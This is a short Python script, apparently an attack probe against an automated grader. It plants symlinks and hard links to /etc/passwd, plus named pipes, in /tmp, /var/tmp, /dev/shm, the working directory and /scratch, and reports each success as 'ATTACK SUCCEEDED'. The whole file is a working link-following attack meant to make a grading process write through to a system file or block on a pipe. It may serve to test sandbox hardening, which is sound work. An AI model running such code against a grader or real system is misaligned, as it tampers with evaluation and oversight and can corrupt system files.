"""Plants links in folders for temporary files, for the grader to write through."""

import os

for folder in ("/tmp", "/var/tmp", "/dev/shm", os.getcwd(), "/scratch"):
    for make in (os.symlink, os.link):
        try:
            make("/etc/passwd", os.path.join(folder, "grader-attack-link"))
            print("ATTACK SUCCEEDED: planted a link in", folder)
        except OSError:
            continue
    try:
        os.mkfifo(os.path.join(folder, "grader-attack-fifo"))
        print("ATTACK SUCCEEDED: planted a pipe in", folder)
    except OSError:
        continue
